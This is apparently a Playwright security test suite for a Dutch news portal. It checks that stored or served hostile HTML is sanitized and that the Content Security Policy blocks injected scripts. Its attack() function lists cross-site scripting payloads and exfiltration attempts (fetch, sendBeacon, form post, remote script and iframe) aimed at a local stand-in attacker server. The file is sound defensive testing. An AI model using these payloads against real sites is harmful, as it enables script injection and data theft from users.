import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { hostileArticles } from '@portal/server/testing/hostile-fragments'
import { expect, logIn, test } from '../support/test.ts'
import { setTrap, whatIsNotToRead } from '../support/trap.ts'

const missingPicture = /404 .*\/storage\/a\.jpg/

test('hostile HTML in the database is shown as harmless text', async ({ page, create, database, surprises }) => {
  surprises.expect(missingPicture)
  const trap = await setTrap(page)
  await logIn(page, await create.member())
  const { url_slug, id } = await create.news({ title: 'Gekaapt bericht', image: null, thumbnail_image: null })

  for (const html of hostileArticles) {
    // PostgreSQL refuses NUL in texts.
    const content = `<p>Begin</p>${html}`.replaceAll('\0', '')
    await database?.db.query('update article_publications set content = $2 where content_id = $1', [id, content])
    await read(page, `/nieuws/${url_slug}`)

    expect(await whatIsNotToRead(page, 'Begin')).toEqual([])
  }
  expect(trap.caught).toEqual([])
})

for (const [browser, withoutSanitizer] of [
  ['a browser that can sanitize', false],
  ['a browser that is brought a library', true],
] as const) {
  test(`hostile HTML that the server gives out is stopped by ${browser}`, async ({ page, create, surprises }) => {
    surprises.expect(missingPicture)
    // The sanitizer parses it in a separate document, which has the same policy.
    surprises.expect(/^error: (Applying inline style|Setting the document's base URI) .* Content Security Policy/)
    surprises.expect(/^error: This document requires 'TrustedScript' assignment/)
    if (withoutSanitizer) await page.addInitScript('delete Document.parseHTML')
    const trap = await setTrap(page)
    await logIn(page, await create.member())
    let content = ''
    const days = { from: '2026-03-01', to: '2026-03-31' }
    await page.route('**/api/promotions/gekaapt', (route) =>
      route.fulfill({ json: { title: 'Gekaapte actie', image: null, content, ...days } }),
    )

    for (const html of hostileArticles) {
      content = `<p>Begin</p>${html}`
      await read(page, '/acties/gekaapt')

      expect(await whatIsNotToRead(page, 'Begin')).toEqual([])
    }
    expect(trap.caught).toEqual([])
  })
}

test('injected code could not run, and could not send anything', async ({ page, create, surprises }) => {
  surprises.expect(/^error: .*(Content Security Policy|Trusted ?(Type|HTML|Script))/)
  surprises.expect(/^request: http:\/\/127\.0\.0\.1:/)
  const elsewhere = await listenElsewhere()
  const trap = await setTrap(page)
  await logIn(page, await create.member())
  const { url_slug } = await create.news({ image: null, thumbnail_image: null })
  await read(page, `/nieuws/${url_slug}`)

  await page.evaluate(`setTimeout(${attack}, 0, '${elsewhere.url}')`)

  const stopped = () => page.evaluate(() => [...(window as unknown as Attacked).stopped].sort())
  await expect
    .poll(stopped)
    .toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'style-src-attr',
      'style-src-elem',
      'trusted-types',
    ])
  expect([trap.caught, elsewhere.heard]).toEqual([[], []])
  await elsewhere.close()
})

async function read(page: Page, path: string): Promise<void> {
  await page.goto(path)
  await expect(
    page
      .getByRole('article')
      .getByRole('paragraph')
      .filter({ hasText: /^(Begin|Wat er te lezen is.)$/ }),
  ).toBeVisible()
}

/** A real server that the fragments try to send data to. */
async function listenElsewhere() {
  const heard: string[] = []
  const server = createServer((request, reply) => {
    heard.push(request.url ?? '')
    reply.setHeader('access-control-allow-origin', '*').end('steel()')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    heard,
    close: () => new Promise((resolve) => server.close(resolve)),
  }
}

type Attacked = { stopped: Set<string>; trustedTypes: { createPolicy(name: string, rules: object): unknown } }

// Runs in the page from a timer, because code that Playwright calls directly may do more than the page's policy allows.
// Does what HTML would do that passed every sanitizer.
function attack(elsewhere: string): void {
  const stopped = new Set<string>()
  ;(window as unknown as Attacked).stopped = stopped
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => stopped.add(effectiveDirective))
  const place = document.querySelector('article') ?? document.body

  const attempt = (act: () => unknown) => {
    try {
      act()
    } catch {
      // A request that the policy blocks at once is reported too.
    }
  }
  const add = (tag: string, attributes: Record<string, string>, text = '') => {
    const element = document.createElement(tag)
    place.append(element)
    for (const [name, value] of Object.entries(attributes)) attempt(() => element.setAttribute(name, value))
    attempt(() => element.append(text))
    return element
  }

  attempt(() => (place.innerHTML += '<img src="x" onerror="steel()">'))
  attempt(() => place.insertAdjacentHTML('beforeend', '<svg onload="steel()"></svg>'))
  attempt(() => document.write('<script>steel()</script>'))
  attempt(() => window.eval('steel()'))
  attempt(() => Reflect.apply(window.setTimeout, window, ['steel()']))
  attempt(() => Reflect.construct(Function, ['steel()'])())
  attempt(() => (window as unknown as Attacked).trustedTypes.createPolicy('van-een-ander', {}))
  add('script', {}, 'steel()')
  add('script', { src: `${elsewhere}/script` })
  add('p', { onclick: 'steel()' }).click()
  add('img', { src: `${elsewhere}/picture`, onload: 'steel()' })
  add('iframe', { src: `${elsewhere}/frame` })
  add('iframe', { srcdoc: '<script>parent.steel()</script>' })
  add('object', { data: `${elsewhere}/object` })
  add('link', { rel: 'stylesheet', href: `${elsewhere}/style` })
  add('style', {}, 'article { display: none }')
  add('p', { style: 'position: fixed; inset: 0' })
  add('base', { href: elsewhere })
  void fetch(`${elsewhere}/fetch`).catch(() => {})
  attempt(() => navigator.sendBeacon(`${elsewhere}/beacon`))
  ;(add('form', { action: `${elsewhere}/form`, method: 'post' }) as HTMLFormElement).submit()
}
